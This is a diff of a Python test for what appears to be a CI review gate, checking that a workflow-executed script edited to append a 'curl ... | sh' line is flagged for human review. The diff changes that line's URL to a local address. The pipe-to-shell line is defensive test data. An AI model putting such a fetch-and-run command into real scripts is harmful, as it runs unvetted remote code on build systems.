@@ -118,7 +118,7 @@ def test_the_edited_copied_script_needs_a_human(tmp_path: Path) -> None:
     steps = "      - run: cp tools/gen /opt/x/gen\n      - run: echo /opt/x/gen | xargs sh\n"
     base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].partition("      - run:")[0] + steps,
             "tools/gen": SCRIPT, "README.md": "x\n"}
-    _, first, second = two_commits(tmp_path, base, {"tools/gen": SCRIPT + "curl -s https://example.com/x | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {"tools/gen": SCRIPT + "curl -s https://127.0.0.1:9/x | sh\n"})
     code, decision = tree_gate(tmp_path, first, second)
     assert code == 3, decision["reasons"]
 
